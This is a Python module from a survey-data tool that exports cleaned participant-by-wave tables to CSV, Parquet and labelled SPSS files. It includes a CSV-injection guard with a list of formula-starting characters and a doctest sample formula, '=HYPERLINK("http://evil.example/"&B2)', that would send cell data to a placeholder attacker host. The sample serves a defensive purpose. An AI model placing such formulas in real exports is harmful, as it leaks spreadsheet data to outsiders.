"""Cleaned data for other tools: CSV and Parquet for R and Python, SPSS ``.sav`` for SPSS/JASP.

The export is one wide table, one row per participant × wave, with the registry attributes
and every item, named ``<instrument>_<item>`` (``_then`` for retrospective ratings). The
``.sav`` file carries the item texts as variable labels and the response labels as value
labels. Files are written atomically: a failed export leaves no half-written file.

Every output of one command is written by :func:`write_outputs`: into a scratch folder
inside the output folder, then renamed into place together, so a command's outputs appear
together or not at all. CSV cells that a spreadsheet would run as a formula are neutralised
(:func:`neutralise_formulas`).

Examples
--------
>>> from impact.pipeline import load_programme
>>> programme = load_programme("tests/fixtures/tools/survey.yml")
>>> table = wide(programme.cleaned, programme.instruments)
>>> table.columns[:7].tolist()
['participant', 'wave', 'sector', 'role', 'tandem', 'site', 'who5_i1']
>>> bool(len(table) == programme.cleaned.submissions["status"].eq("kept").sum())
True
"""

from __future__ import annotations

import contextlib
import errno
import os
import re
import shutil
import tempfile
import unicodedata
from collections.abc import Callable, Iterable
from pathlib import Path

import numpy as np
import pandas as pd

from impact.clean import Cleaned
from impact.definitions import Instrument
from impact.errors import ImpactError, InputError, OutputError, choice_hint, unknown_choices

EXPORT_FORMATS = ("csv", "parquet", "sav")


def check_formats(formats) -> list[str]:
    """The export formats asked for, each once; an unknown one is an :class:`InputError`.

    Examples
    --------
    >>> check_formats(["csv", "sav", "csv"])
    ['csv', 'sav']
    >>> check_formats(["csv", "spss"])
    Traceback (most recent call last):
    impact.errors.InputError: unknown export format(s) ['spss'] (choose from [...])
    """
    unknown = unknown_choices(formats, EXPORT_FORMATS)
    if unknown:
        raise InputError(
            f"unknown export format(s) {unknown}",
            hint=choice_hint(unknown[0], EXPORT_FORMATS)
            if len(unknown) == 1
            else f"choose from {list(EXPORT_FORMATS)}",
        )
    return list(dict.fromkeys(formats))


EXPORT_NAME = "cleaned"


def item_column(instrument: str, item: str, frame: str = "now") -> str:
    """The export name of an item: ``who5_i1``, ``competences_c1_then``.

    Examples
    --------
    >>> item_column("competences", "c1", "then")
    'competences_c1_then'
    """
    return f"{instrument}_{item}" + ("" if frame == "now" else f"_{frame}")


def _item_order(instruments: dict[str, Instrument]) -> list[tuple[str, str, str]]:
    return [
        (instrument.id, item.id, frame)
        for frame in ("now", "then")
        for instrument in instruments.values()
        for item in instrument.items
        if frame == "now" or instrument.retrospective
    ]


def _item_columns(responses: pd.DataFrame) -> pd.Categorical:
    """The export name of every response row, made once per (instrument, item, frame)."""
    parts = [responses[c].astype("category") for c in ("instrument", "item", "frame")]
    if responses.empty:
        return pd.Categorical([], categories=[])
    shape = tuple(len(part.cat.categories) for part in parts)
    target = np.ravel_multi_index([part.cat.codes.to_numpy() for part in parts], shape)
    present = np.flatnonzero(np.bincount(target, minlength=int(np.prod(shape))))
    labels = [part.cat.categories for part in parts]
    names = [
        item_column(*(str(labels[k][code]) for k, code in enumerate(codes)))
        for codes in zip(*np.unravel_index(present, shape), strict=True)
    ]
    categories, position = np.unique(np.asarray(names, dtype=object), return_inverse=True)
    lookup = np.full(int(np.prod(shape)), -1, dtype=np.int64)
    lookup[present] = position
    return pd.Categorical.from_codes(lookup[target], categories=categories)


def wide(cleaned: Cleaned, instruments: dict[str, Instrument]) -> pd.DataFrame:
    """The cleaned responses as one row per participant × wave.

    Parameters
    ----------
    cleaned : Cleaned
        As returned by :func:`impact.clean.clean`.
    instruments : dict
        Instrument id → Instrument; gives the order of the item columns.

    Returns
    -------
    DataFrame
        - ``participant``: the participant key (a pseudonym where keys are pseudonymised)
        - ``wave``: ordered categorical of the survey's waves
        - one column per registry attribute (``sector``, ``role``, … as defined)
        - one float column per item asked, ``<instrument>_<item>`` or
          ``<instrument>_<item>_then``, recoded and reverse-keyed as cleaned; NaN where
          missing
    """
    responses = cleaned.responses
    kept = cleaned.submissions.loc[
        cleaned.submissions["status"].eq("kept"), ["participant", "wave"]
    ]
    rows = kept.drop_duplicates().sort_values(["participant", "wave"]).reset_index(drop=True)
    values = (
        responses.assign(column=_item_columns(responses))
        .pivot(index=["participant", "wave"], columns="column", values="value")
        .reset_index(col_level=0)
    )
    values.columns = pd.Index([str(c) for c in values.columns], dtype=object)
    # Keys of the same type on both sides (the responses' participants are categorical).
    values["participant"] = values["participant"].astype(rows["participant"].dtype)
    table = rows.merge(values, on=["participant", "wave"], how="left")
    table = table.merge(cleaned.registry, on="participant", how="left")
    attributes = [c for c in cleaned.registry.columns if c != "participant"]
    order = [item_column(*key) for key in _item_order(instruments)]
    items = [c for c in order if c in table.columns]
    items += sorted(set(values.columns) - set(items) - {"participant", "wave"})
    return table[["participant", "wave", *attributes, *items]]


def _atomic(path: Path, write: Callable[[Path], None]) -> None:
    """Write to a temporary file beside ``path``, then move it into place."""
    handle, temporary = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    os.close(handle)
    try:
        write(Path(temporary))
        os.replace(temporary, path)
    except BaseException:
        Path(temporary).unlink(missing_ok=True)
        raise


# OWASP's list for CSV injection: a cell starting with one of these is a formula to Excel,
# LibreOffice and Google Sheets (tab and carriage return start one in some of them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def neutralise_formula(value: object) -> object:
    """A cell as text that no spreadsheet runs: a leading ``'`` before a formula start.

    A plain number (``-9``, ``+3.5``) is left as it is: a spreadsheet reads it as a number,
    not a formula.

    Examples
    --------
    >>> print(neutralise_formula('=HYPERLINK("http://evil.example/"&B2)'))
    '=HYPERLINK("http://evil.example/"&B2)
    >>> neutralise_formula("-9"), neutralise_formula("@SUM(A1)"), neutralise_formula(3.0)
    ('-9', "'@SUM(A1)", 3.0)
    """
    risky = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    return "'" + value if risky and not _PLAIN_NUMBER.fullmatch(value) else value


def neutralise_formulas(table: pd.DataFrame) -> pd.DataFrame:
    """The table with every text cell and column name passed through
    :func:`neutralise_formula` (categoricals by their categories: one call per distinct
    value). Numbers are not touched.

    Examples
    --------
    >>> neutralise_formulas(pd.DataFrame({"code": ["=1+1", "AB12CD"], "x": [1.0, -2.0]}))
        code    x
    0  '=1+1  1.0
    1  AB12CD -2.0
    """
    result = table.copy(deep=False)
    for column in result.columns:
        values = result[column]
        if isinstance(values.dtype, pd.CategoricalDtype):
            categories = values.cat.categories
            if categories.dtype == object or pd.api.types.is_string_dtype(categories):
                renamed = [neutralise_formula(c) for c in categories]
                if renamed != list(categories):
                    result[column] = values.cat.rename_categories(renamed)
        elif values.dtype == object or pd.api.types.is_string_dtype(values):
            risky = values.astype("str").str.startswith(FORMULA_STARTS).fillna(False)
            if risky.any():
                result[column] = values.astype(object).where(
                    ~risky.to_numpy(), values[risky.to_numpy()].map(neutralise_formula)
                )
    result.columns = [neutralise_formula(str(c)) for c in result.columns]
    return result


def csv_writer(table: pd.DataFrame) -> Callable[[Path], None]:
    """A writer of the table as UTF-8 CSV, formulas neutralised (for :func:`write_outputs`)."""

    def write(path: Path) -> None:
        neutralise_formulas(table).to_csv(path, index=False, encoding="utf-8")

    return write


IMPORT_SCRATCH = "import"
_SPACE_HINTS = {
    errno.ENOSPC: "the disk is full: free some space and run again",
    errno.EDQUOT: "the disk quota is used up: free some space and run again",
    errno.EROFS: "the folder is on a read-only file system: choose another with --out",
    errno.EACCES: "the folder is not writable: choose another with --out",
    errno.EPERM: "the folder is not writable: choose another with --out",
}


def _output_error(out: Path, name: str, error: BaseException) -> OutputError:
    if isinstance(error, OSError):
        code = errno.errorcode.get(error.errno or 0)
        reason = (error.strerror or str(error)) + (f" [{code}]" if code else "")
        hint = _SPACE_HINTS.get(error.errno or 0, "check the output folder")
    else:
        reason, hint = (
            " ".join(str(error).split()) or type(error).__name__,
            "check the output folder",
        )
    return OutputError(
        f"cannot write {name} into {str(out)!r}: {reason} ({hint}); none of the outputs was written"
    )


def _remove_stale(out: Path, names: Iterable[str]) -> None:
    """Scratch folders of dead processes, and temporary files of an interrupted write
    (``.cleaned.sav.….tmp``) of the outputs about to be written."""
    from impact.report import remove_stale_scratch

    remove_stale_scratch(out)
    for name in names:
        for stale in out.glob(f".{name}.*.tmp"):
            stale.unlink(missing_ok=True)


def write_outputs(out: str | Path, writers: dict[str, Callable[[Path], None]]) -> list[Path]:
    """Write the outputs of one command so that they appear together or not at all.

    Each writer writes its file into a scratch folder ``.impact-<pid>-import-…`` inside
    ``out``; once all are written they are renamed into place under the folder's lock
    (:func:`impact.report.folder_lock`). A failure removes the scratch folder and any file
    of this run already renamed; scratch folders and temporary files of dead processes
    are removed first.

    Parameters
    ----------
    out : str or Path
        The output folder (created if missing).
    writers : dict
        File name → a function writing that file to the path it is given.

    Returns
    -------
    list of Path
        The files written, in the order of ``writers``.

    Raises
    ------
    OutputError
        When a file cannot be written or renamed (full disk, read-only folder …),
        naming the file, the folder and the reason.
    """
    from impact.report import SCRATCH_PREFIX, folder_lock

    out = Path(out)
    created = [folder for folder in (out, *out.parents) if not folder.exists()]
    try:
        out.mkdir(parents=True, exist_ok=True)
        _remove_stale(out, writers)
        scratch = Path(
            tempfile.mkdtemp(prefix=f"{SCRATCH_PREFIX}{os.getpid()}-{IMPORT_SCRATCH}-", dir=out)
        )
    except OSError as error:
        raise _output_error(out, "the output folder", error) from None
    try:
        for name, write in writers.items():
            try:
                write(scratch / name)
            except ImpactError:
                raise
            except Exception as error:  # pyreadstat, pyarrow and the OS raise many kinds
                raise _output_error(out, name, error) from None
        placed: list[Path] = []
        with folder_lock(out):
            try:
                for name in writers:
                    os.replace(scratch / name, out / name)
                    placed.append(out / name)
            except OSError as error:
                for path in placed:
                    path.unlink(missing_ok=True)
                raise _output_error(out, name, error) from None
    except BaseException:
        shutil.rmtree(scratch, ignore_errors=True)
        for folder in created:  # the folders this call made, innermost first
            with contextlib.suppress(OSError):
                folder.rmdir()
        raise
    shutil.rmtree(scratch, ignore_errors=True)
    return [out / name for name in writers]


# Words SPSS reserves, which no variable may be called.
SPSS_RESERVED = {"ALL", "AND", "BY", "EQ", "GE", "GT", "LE", "LT", "NE", "NOT", "OR", "TO", "WITH"}
SPSS_NAME_BYTES = 64


def spss_names(columns: Iterable[str]) -> dict[str, str]:
    """A valid, distinct SPSS variable name for each column (most keep theirs).

    SPSS names start with a letter, hold letters, digits and ``_ . @ # $``, are at most 64
    bytes, are no reserved word and are distinct regardless of case. Other characters
    become ``_``, a name not starting with a letter gets a ``v`` in front, and repeats a
    number; the original name is kept as the variable label.

    Examples
    --------
    >>> list(spss_names(["sector group", "1st-role", "ALL", "Größe", "sector_group"]).values())
    ['sector_group', 'v1st_role', 'ALL_', 'Größe', 'sector_group_2']
    """
    names: dict[str, str] = {}
    taken: set[str] = set()
    for column in columns:
        text = unicodedata.normalize("NFC", str(column))
        name = "".join(c if c.isalnum() or c in "_.@#$" else "_" for c in text) or "v"
        if not name[0].isalpha():
            name = "v" + name
        if name.upper() in SPSS_RESERVED:
            name += "_"
        while len(name.encode("utf-8")) > SPSS_NAME_BYTES - 4:
            name = name[:-1]
        base, number = name, 1
        while name.casefold() in taken:
            number += 1
            name = f"{base}_{number}"
        taken.add(name.casefold())
        names[column] = name
    return names


def _labels(
    table: pd.DataFrame, instruments: dict[str, Instrument], language: str
) -> tuple[dict[str, str], dict[str, dict[float, str]]]:
    variable_labels: dict[str, str] = {"participant": "participant (pseudonymous key)"}
    value_labels: dict[str, dict[float, str]] = {}
    for instrument_id, item_id, frame in _item_order(instruments):
        column = item_column(instrument_id, item_id, frame)
        if column not in table.columns:
            continue
        instrument = instruments[instrument_id]
        item = next(i for i in instrument.items if i.id == item_id)
        text = item.text[language] if item.text else item_id
        note = " (reverse-keyed, recoded)" if item.reverse else ""
        when = " [then]" if frame == "then" else ""
        variable_labels[column] = f"{instrument.name[language]}: {text}{when}{note}"[:250]
        if instrument.response is not None and instrument.response.labels:
            low, high = instrument.response.min, instrument.response.max
            labels = {float(v): t[language] for v, t in instrument.response.labels.items()}
            if item.reverse:
                # The value after reversal carries the label of what was answered.
                labels = {low + high - v: t for v, t in labels.items()}
            value_labels[column] = labels
    return variable_labels, value_labels


def export(
    cleaned: Cleaned,
    instruments: dict[str, Instrument],
    out: str | Path,
    *,
    formats: Iterable[str] = ("csv",),
    language: str = "en",
) -> list[Path]:
    """Write the wide cleaned table as CSV, Parquet and/or SPSS ``.sav``.

    Parameters
    ----------
    cleaned : Cleaned
        As returned by :func:`impact.clean.clean`.
    instruments : dict
        Instrument id → Instrument (for column order and labels).
    out : str or Path
        The folder to write ``cleaned.csv``, ``cleaned.parquet``, ``cleaned.sav`` into.
    formats : iterable of {"csv", "parquet", "sav"}
    language : {"en", "de"}
        The language of the SPSS variable and value labels.

    Returns
    -------
    list of Path
        The files written.

    Raises
    ------
    InputError
        For an unknown export format (before anything is written).
    """
    return write_outputs(
        out, export_writers(cleaned, instruments, formats=formats, language=language)
    )


def export_writers(
    cleaned: Cleaned,
    instruments: dict[str, Instrument],
    *,
    formats: Iterable[str] = ("csv",),
    language: str = "en",
) -> dict[str, Callable[[Path], None]]:
    """File name → writer of the wide cleaned table in each format, for
    :func:`write_outputs` (see :func:`export`)."""
    formats = check_formats(formats)
    table = wide(cleaned, instruments)
    writers: dict[str, Callable[[Path], None]] = {}
    for kind in formats:
        name = f"{EXPORT_NAME}.{kind}"
        if kind == "csv":
            writers[name] = csv_writer(table)
        elif kind == "parquet":
            writers[name] = lambda p: table.to_parquet(p, index=False)
        else:
            writers[name] = lambda p: _write_sav(table, p, instruments, language)
    return writers


def _write_sav(
    table: pd.DataFrame, path: Path, instruments: dict[str, Instrument], language: str
) -> None:
    import pyreadstat

    waves = list(table["wave"].cat.categories)
    frame = table.copy()
    frame["wave"] = frame["wave"].cat.codes.astype(float) + 1
    for column in frame.columns:
        if frame[column].dtype == object or pd.api.types.is_string_dtype(frame[column]):
            frame[column] = frame[column].astype(object).where(frame[column].notna(), "")
    variable_labels, value_labels = _labels(table, instruments, language)
    variable_labels["wave"] = "wave"
    value_labels["wave"] = {float(i + 1): wave for i, wave in enumerate(waves)}
    # each item as its instrument's kind says (tick boxes nominal, counts and ratings
    # scale); the key and other text nominal, the wave ordinal
    measures = dict.fromkeys(frame.columns, "nominal")
    for instrument_id, item_id, when in _item_order(instruments):
        column = item_column(instrument_id, item_id, when)
        if column in measures:
            measures[column] = MEASURES.get(instruments[instrument_id].kind, "nominal")
    measures["wave"] = "ordinal"
    names = spss_names(frame.columns)
    pyreadstat.write_sav(
        frame.rename(columns=names),
        str(path),
        column_labels={names[c]: variable_labels.get(c, c) for c in frame.columns},
        variable_value_labels={names[c]: v for c, v in value_labels.items()},
        variable_measure={names[c]: v for c, v in measures.items()},
    )


# -- one row per participant: a column per scale × wave ---------------------------------------

# User-missing codes of the participant-level .sav, below any response scale: SPSS and JASP
# tell "did not take part" from "took part, no valid answer" (CSV and Parquet: empty).
WIDE_NAME = "participants"
MISSING_ABSENT = -99.0
MISSING_NO_ANSWER = -98.0
MISSING_UNREGISTERED = -97.0
MISSING_LABELS = {
    MISSING_ABSENT: {"de": "nicht teilgenommen (Welle)", "en": "did not take part in this wave"},
    MISSING_NO_ANSWER: {
        "de": "teilgenommen, keine gültige Antwort",
        "en": "took part, no valid answer",
    },
    MISSING_UNREGISTERED: {"de": "im Register nicht angegeben", "en": "not given in the registry"},
}
# Names valid in SPSS, Stata and R at once: ASCII letters, digits and _, a letter first, at
# most 32 characters (Stata's limit; SPSS allows 64) and no word any of them reserves.
PORTABLE_NAME_LENGTH = 32
RESERVED_NAMES = {
    *(word.casefold() for word in SPSS_RESERVED),
    *"if else repeat while function for in next break true false null inf nan na".split(),
    *"byte int long float double str strl using".split(),
}
# How SPSS should treat an instrument's items, from the kind the definition declares.
MEASURES = {"scale": "scale", "single": "scale", "counts": "scale", "multiselect": "nominal"}
_TRANSLITERATION = str.maketrans(
    {"ä": "ae", "ö": "oe", "ü": "ue", "Ä": "Ae", "Ö": "Oe", "Ü": "Ue", "ß": "ss"}
)


def portable_names(columns: Iterable[str]) -> dict[str, str]:
    """A distinct name for each column that SPSS, Stata and R all accept.

    Umlauts are transliterated, accents dropped, other characters become ``_``; a name
    that does not start with a letter gets a ``v`` in front, a reserved word a ``_``
    after it; names are cut to 32 characters and made distinct regardless of case by a
    number at the end.

    Examples
    --------
    >>> list(portable_names(["who5_milestone-1", "Größe", "1st", "if", "_x"]).values())
    ['who5_milestone_1', 'Groesse', 'v1st', 'if_', 'v_x']
    >>> long = ["competences_c1_then_milestone_12_extra"] * 2
    >>> list(portable_names([long[0], long[0] + "b"]).values())
    ['competences_c1_then_milestone_12', 'competences_c1_then_milestone_2']
    """
    names: dict[str, str] = {}
    taken: set[str] = set()
    for column in columns:
        text = unicodedata.normalize("NFKD", str(column).translate(_TRANSLITERATION))
        text = "".join(c for c in text if not unicodedata.combining(c))
        name = re.sub(r"[^A-Za-z0-9_]", "_", text) or "v"
        if not name[0].isalpha():
            name = "v" + name
        if name.casefold() in RESERVED_NAMES:
            name += "_"
        name = name[:PORTABLE_NAME_LENGTH]
        base, number = name, 1
        while name.casefold() in taken:
            number += 1
            suffix = f"_{number}"
            name = base[: PORTABLE_NAME_LENGTH - len(suffix)].rstrip("_") + suffix
        taken.add(name.casefold())
        names[column] = name
    return names


def _item_label(instrument: Instrument, item_id: str, frame: str, language: str) -> str:
    item = next(i for i in instrument.items if i.id == item_id)
    text = item.text[language] if item.text else item_id
    note = " (reverse-keyed, recoded)" if item.reverse else ""
    when = " [then]" if frame == "then" else ""
    return f"{instrument.name[language]}: {text}{when}{note}"


def _item_value_labels(instrument: Instrument, item_id: str) -> dict[float, dict[str, str]]:
    if instrument.response is None or not instrument.response.labels:
        return {}
    item = next(i for i in instrument.items if i.id == item_id)
    low, high = instrument.response.min, instrument.response.max
    labels = {float(v): {"de": t.de, "en": t.en} for v, t in instrument.response.labels.items()}
    if item.reverse:  # the value after reversal carries the label of what was answered
        labels = {low + high - v: t for v, t in labels.items()}
    return dict(sorted(labels.items()))


def wide_variables(programme, *, items: bool = False) -> pd.DataFrame:
    """The variables of the participant-level file, one row each, in file order.

    Parameters
    ----------
    programme : Programme
        As returned by :func:`impact.pipeline.load_programme`.
    items : bool
        Also a column per item × wave (recoded and reverse-keyed as cleaned).

    Returns
    -------
    DataFrame
        - ``name``: the variable name (:func:`portable_names`)
        - ``column``: what it holds before renaming (``participant``, an attribute,
          ``<scale>_<wave>`` or ``<instrument>_<item>[_then]_<wave>``)
        - ``kind``: ``key``, ``attribute``, ``score`` or ``item``
        - ``label_de``, ``label_en``: variable labels
        - ``type``: ``string`` or ``number``
        - ``measure``: SPSS measurement level (items: from the instrument's ``kind``)
        - ``value_labels``: value → ``{"de": …, "en": …}`` (attributes: their codes in
          the ``.sav`` file)
        - ``instrument``, ``scale``, ``item``, ``frame``, ``wave``: where it comes from
          (missing for the key and the attributes)

    Examples
    --------
    >>> from impact.demo import DEMO_SURVEY
    >>> from impact.pipeline import load_programme
    >>> variables = wide_variables(load_programme(DEMO_SURVEY))
    >>> variables["name"].head(6).tolist()
    ['participant', 'sector', 'role', 'tandem', 'site', 'sector_group']
    >>> variables.query("scale == 'who5'")["name"].tolist()
    ['who5_kickoff', 'who5_milestone_1', 'who5_milestone_2', 'who5_final']
    """
    rows = [_key_variable(), *_attribute_variables(programme), *_score_variables(programme)]
    if items:
        rows += _item_variables(programme, shown={row["column"] for row in rows})
    table = pd.DataFrame(rows)
    for column in ("instrument", "scale", "item", "frame", "wave"):
        if column not in table:
            table[column] = None
    table = table.astype({c: object for c in ("instrument", "scale", "item", "frame", "wave")})
    table = table.where(table.notna(), None)
    names = portable_names(table["column"])
    table.insert(0, "name", table["column"].map(names))
    return table


def _key_variable() -> dict:
    """The first variable of the participant-level file: the pseudonymous key."""
    return {
        "column": "participant",
        "kind": "key",
        "label_de": "Teilnehmer/in (pseudonymer Schlüssel)",
        "label_en": "participant (pseudonymous key)",
        "type": "string",
        "measure": "nominal",
        "value_labels": {},
    }


def _attribute_variables(programme) -> list[dict]:
    """A variable per registry attribute, its values coded 1, 2, … in the order of the
    definition's labels (then the rest sorted), each with its German and English label."""
    survey, attributes = programme.survey, programme.attributes
    rows = []
    for attribute in [c for c in attributes.columns if c != "participant"]:
        name = survey.registry.names.get(attribute)
        shown = survey.registry.labels.get(attribute, {})
        values = sorted(attributes[attribute].dropna().astype(str).unique())
        values = [v for v in shown if v in values] + [v for v in values if v not in shown]
        rows.append(
            {
                "column": attribute,
                "kind": "attribute",
                "label_de": name.de if name else attribute,
                "label_en": name.en if name else attribute,
                "type": "string",
                "measure": "nominal",
                "value_labels": {
                    float(code): (
                        {"de": shown[v].de, "en": shown[v].en} if v in shown else {"de": v, "en": v}
                    )
                    | {"value": v}
                    for code, v in enumerate(values, start=1)
                },
            }
        )
    return rows


def _score_variables(programme) -> list[dict]:
    """A variable per scale × wave with a score, scales in the order of the instruments."""
    survey, scores = programme.survey, programme.scores
    present = set(zip(scores["scale"].astype(str), scores["wave"].astype(str), strict=True))
    order = list(programme.instruments)
    scales = sorted(
        dict.fromkeys(scores["scale"].astype(str)),
        key=lambda scale: order.index(programme.instrument_of(scale).id),
    )
    rows = []
    for scale in scales:
        instrument = programme.instrument_of(scale)
        frame = "then" if scale.endswith("_then") and instrument.retrospective else "now"
        for wave in survey.waves:
            if (scale, wave.id) not in present:
                continue
            rows.append(
                {
                    "column": f"{scale}_{wave.id}",
                    "kind": "score",
                    "label_de": f"{programme.scale_label(scale, 'de')}, {wave.label.de}",
                    "label_en": f"{programme.scale_label(scale, 'en')}, {wave.label.en}",
                    "type": "number",
                    "measure": "scale",
                    "value_labels": {},
                    "instrument": instrument.id,
                    "scale": scale,
                    "frame": frame,
                    "wave": wave.id,
                }
            )
    return rows


def _item_variables(programme, *, shown: set[str]) -> list[dict]:
    """A variable per item × wave that was asked, unless a column of ``shown`` (a score)
    holds it already."""
    survey, instruments, responses = programme.survey, programme.instruments, programme.responses
    asked = set(
        zip(
            *(responses[c].astype(str) for c in ("instrument", "item", "frame", "wave")),
            strict=True,
        )
    )
    rows = []
    for instrument_id, item_id, frame in _item_order(instruments):
        instrument = instruments[instrument_id]
        if instrument.kind not in MEASURES:
            continue
        for wave in survey.waves:
            column = f"{item_column(instrument_id, item_id, frame)}_{wave.id}"
            # The item of a single-item score (Cantril "now") is that score's column.
            if (instrument_id, item_id, frame, wave.id) not in asked or column in shown:
                continue
            rows.append(
                {
                    "column": column,
                    "kind": "item",
                    "label_de": f"{_item_label(instrument, item_id, frame, 'de')}, {wave.label.de}",
                    "label_en": f"{_item_label(instrument, item_id, frame, 'en')}, {wave.label.en}",
                    "type": "number",
                    "measure": MEASURES[instrument.kind],
                    "value_labels": _item_value_labels(instrument, item_id),
                    "instrument": instrument_id,
                    "item": item_id,
                    "frame": frame,
                    "wave": wave.id,
                }
            )
    return rows


def participants_wide(programme, *, items: bool = False) -> pd.DataFrame:
    """One row per participant: the key, the registry attributes and a column per scale ×
    wave (and per item × wave with ``items``), named as :func:`wide_variables` says.

    Every registered participant has a row, and so has every participant who answered
    without being registered (``quality.unregistered: keep``); identifying registry
    columns were dropped at import. The file the paired tests of JASP and SPSS need:
    ``who5_kickoff`` beside ``who5_final``.

    Parameters
    ----------
    programme : Programme
        As returned by :func:`impact.pipeline.load_programme`.
    items : bool
        Also a column per item × wave.

    Returns
    -------
    DataFrame
        Text for the key and the attributes, floats for scores and items; NaN where
        missing (the ``.sav`` file tells why, with user-missing codes).

    Examples
    --------
    >>> from impact.demo import DEMO_SURVEY
    >>> from impact.pipeline import load_programme
    >>> programme = load_programme(DEMO_SURVEY)
    >>> table = participants_wide(programme)
    >>> bool(table["participant"].is_unique), len(table) == len(programme.registry)
    (True, True)
    >>> round(float((table["who5_final"] - table["who5_kickoff"]).mean()), 1) > 0
    True
    """
    variables = wide_variables(programme, items=items)
    attributes = programme.attributes.astype({"participant": str})
    answered = pd.Index(programme.scores["participant"].astype(str).unique())
    keys = list(attributes["participant"]) + sorted(set(answered) - set(attributes["participant"]))
    table = pd.DataFrame({"participant": pd.Series(keys, dtype=object)})
    table = table.merge(attributes, on="participant", how="left")
    scores = programme.scores.astype({"participant": str, "scale": str, "wave": str})
    columns = (scores["scale"] + "_" + scores["wave"]).rename("column")
    blocks = [
        scores.assign(column=columns).pivot(index="participant", columns="column", values="score")
    ]
    if items:
        responses = programme.responses
        names = _item_columns(responses).astype(str)
        column = pd.Series(names, index=responses.index) + "_" + responses["wave"].astype(str)
        item_values = responses.assign(
            column=column, participant=responses["participant"].astype(str)
        ).pivot(index="participant", columns="column", values="value")
        blocks.append(item_values.drop(columns=blocks[0].columns, errors="ignore"))
    values = pd.concat(blocks, axis=1) if blocks else pd.DataFrame()
    values.columns = [str(c) for c in values.columns]
    table = table.merge(values, left_on="participant", right_index=True, how="left")
    wanted = variables["column"].tolist()
    for column in wanted:
        if column not in table:
            table[column] = np.nan
    table = table[wanted].astype({c: float for c in wanted if c not in attributes.columns})
    return table.rename(columns=dict(zip(variables["column"], variables["name"], strict=True)))


def _took_part(programme) -> pd.DataFrame:
    """participant × wave: True where the participant has a kept submission."""
    kept = programme.cleaned.submissions.query("status == 'kept'")[["participant", "wave"]]
    kept = kept.astype(str).drop_duplicates().assign(took_part=True)
    return kept.pivot(index="participant", columns="wave", values="took_part").fillna(False)


def _sav_frame(
    programme, table: pd.DataFrame, variables: pd.DataFrame
) -> tuple[pd.DataFrame, dict[str, list[float]]]:
    """The table as SPSS stores it: attributes as labelled codes, missing values as the
    user-missing code that says why."""
    frame = table.copy()
    took_part = _took_part(programme)
    missing: dict[str, list[float]] = {}
    for row in variables.itertuples():
        if row.kind == "attribute":
            codes = {labels["value"]: code for code, labels in row.value_labels.items()}
            coded = frame[row.name].map(codes).astype(float)
            frame[row.name] = coded.fillna(MISSING_UNREGISTERED)
            missing[row.name] = [MISSING_UNREGISTERED]
        elif row.kind in ("score", "item"):
            present = (
                took_part[row.wave].reindex(frame["participant"]).fillna(False).to_numpy()
                if row.wave in took_part
                else np.zeros(len(frame), dtype=bool)
            )
            values = frame[row.name]
            frame[row.name] = values.where(
                values.notna(), np.where(present, MISSING_NO_ANSWER, MISSING_ABSENT)
            )
            missing[row.name] = [MISSING_ABSENT, MISSING_NO_ANSWER]
    return frame, missing


def _write_wide_sav(
    programme, table: pd.DataFrame, variables: pd.DataFrame, path: Path, language: str
) -> None:
    import pyreadstat

    frame, missing = _sav_frame(programme, table, variables)
    labels: dict[str, dict[float, str]] = {}
    for row in variables.itertuples():
        if row.kind == "key":
            continue
        shown = {v: t[language] for v, t in row.value_labels.items()}
        shown |= {code: MISSING_LABELS[code][language] for code in missing.get(row.name, [])}
        labels[row.name] = dict(sorted(shown.items()))
    pyreadstat.write_sav(
        frame,
        str(path),
        column_labels=[str(label)[:250] for label in variables[f"label_{language}"]],
        variable_value_labels=labels,
        missing_ranges={name: list(codes) for name, codes in missing.items()},
        variable_measure=dict(zip(variables["name"], variables["measure"], strict=True)),
    )


def wide_writers(
    programme,
    *,
    formats: Iterable[str] = ("csv",),
    items: bool = False,
    language: str = "en",
) -> dict[str, Callable[[Path], None]]:
    """File name → writer of the participant-level file (:func:`participants_wide`) in
    each format, for :func:`write_outputs`.

    The ``.sav`` file carries variable labels, value labels (attributes as labelled
    codes), user-missing codes (−99 did not take part in the wave, −98 took part without
    a valid answer, −97 not given in the registry) and measurement levels from the instruments'
    kinds; CSV and Parquet leave missing cells empty.

    Examples
    --------
    >>> import tempfile, pyreadstat
    >>> from impact.demo import DEMO_SURVEY
    >>> from impact.pipeline import load_programme
    >>> folder = tempfile.mkdtemp()
    >>> writers = wide_writers(load_programme(DEMO_SURVEY), formats=["sav"])
    >>> [p.name for p in write_outputs(folder, writers)]
    ['participants.sav']
    >>> _, meta = pyreadstat.read_sav(f"{folder}/participants.sav", user_missing=True)
    >>> meta.missing_ranges["who5_final"]
    [{'lo': -99.0, 'hi': -99.0}, {'lo': -98.0, 'hi': -98.0}]
    """
    formats = check_formats(formats)
    variables = wide_variables(programme, items=items)
    table = participants_wide(programme, items=items)
    writers: dict[str, Callable[[Path], None]] = {}
    for kind in formats:
        name = f"{WIDE_NAME}.{kind}"
        if kind == "csv":
            writers[name] = csv_writer(table)
        elif kind == "parquet":
            writers[name] = lambda p: table.to_parquet(p, index=False)
        else:
            writers[name] = lambda p: _write_wide_sav(programme, table, variables, p, language)
    return writers


__all__ = [
    "EXPORT_FORMATS",
    "csv_writer",
    "export",
    "export_writers",
    "item_column",
    "neutralise_formulas",
    "participants_wide",
    "portable_names",
    "spss_names",
    "wide",
    "wide_variables",
    "wide_writers",
    "write_outputs",
]
